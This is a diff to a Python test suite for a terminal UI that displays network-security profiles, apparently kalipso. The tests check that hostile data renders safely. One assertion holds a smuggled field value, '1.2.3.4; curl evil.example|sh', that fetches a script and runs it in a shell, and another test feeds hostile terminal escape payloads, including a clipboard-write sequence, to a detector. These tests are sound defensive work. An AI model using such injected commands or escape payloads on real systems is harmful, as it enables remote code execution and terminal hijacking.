@@ -339,7 +339,7 @@ def drive(s: Session, full: bool = True) -> None:
     screen after each step is kept. ``full=False`` takes every third line, group and window."""
     step = 1 if full else 3
     focus = "▶ " if s.utf8 else "> "
-    s.wait("Profiles (", "10.66.0.", what="tree")
+    s.wait("Profiles (", "10.66.0.", "evilred.com", what="tree")  # host names shown
     s.keys("G")
     s.wait("Profiles (", what="tree end")
     s.keys("g")
@@ -626,3 +626,48 @@ def test_enter_on_a_folded_timeline_line_opens_its_detail(redis_server, current_
         assert "destination" in screen and "1.2.3.4; curl evil.example|sh" in screen
     finally:
         s.finish()
+
+
+def test_stream_check_catches_every_payload():
+    """The byte check is not vacuous: each corpus payload written raw inside a curses-like frame
+    is reported; the frame alone (cursor moves, SGR, charset, keypad, alternate screen) is not."""
+    frame = (b"\x1b[?1049h\x1b[1;40r\x1b(B\x1b[m\x1b[?1h\x1b=\x1b[H\x1b[J\x1b[3;5H\x1b[0;1m\x0f\x1b[35m"
+             + "┌─ ▶ Profiles ─┐ 主机名称 👩\u200d💻 e\u0301\r\n\b\t".encode()
+             + b"\x1b[39m\x1b[m\x1b[78G\x1bM\x1b[?1l\x1b>")
+    assert stream_problems(frame) == []
+    harmless = {"wide_cjk", "emoji_zwj", "combining", "zero_width", "newlines"}
+    for name, value in hostile.CORPUS.items():
+        problems = stream_problems(frame + value.encode("utf-8", "surrogatepass") + frame)
+        assert bool(problems) == (name not in harmless), (name, problems)
+    own = b"\x1b]52;c;MS4yLjMuNA==\x07"
+    assert stream_problems(frame + own, allowed_osc=(own,)) == []
+    assert stream_problems(frame + own) != []
+
+
+WRAP_BUG = ("views.base.wrap_fields wraps a detail-box value by characters, not cells: a line of wide CJK "
+            "text is twice as wide as the box, and pane.put cuts it, so part of the value is never shown")
+
+
+@pytest.mark.xfail(strict=True, reason=WRAP_BUG)
+def test_detail_box_shows_all_of_a_wide_value():
+    from kalipso.text import cell_width, fit
+    from kalipso.views.base import wrap_fields
+    value = "主机名称-服务器-" * 10
+    for width in (74, 98):  # the detail box's inner width at 80 and 120 columns
+        rows = wrap_fields([("description", value)], width)
+        shown = "".join(fit(label + text, width)[len(label):] for label, text in rows)
+        assert shown.replace(" ", "") == value, (width, [cell_width(label + text) for label, text in rows])
+
+
+def test_lang_c_ascii_stand_ins_on_hostile_data(run_of):
+    """LANG=C on the hostile database: the glyphs test_terminal.py checks on the demo also have
+    their stand-ins here (arrows, current-window mark, ×, focus), and a wide or zero-width
+    grapheme is one '?' instead of a blank or a wrong width."""
+    s = run_of("LANG=C-120x40")
+    screens = dict((what, screen) for what, screen, _ in s.screens)
+    assert "^10 v20" in screens["timewindow1"]  # ↑ ↓ of the timeline
+    assert re.search(r"\*timewindow\d", "\n".join(v for k, v in screens.items() if k.startswith("window")))
+    assert re.search(r"critical x1 ", screens["evidence focus"])  # ×N of an evidence group
+    assert "> Evidence" in screens["evidence focus"] and "> Profiles" in screens["tree focus"]
+    assert "????-???" in screens["windows"]  # 主机名称-服务器: the host name of the hostile profile
+    assert "\ufffd" not in "".join(screens.values())
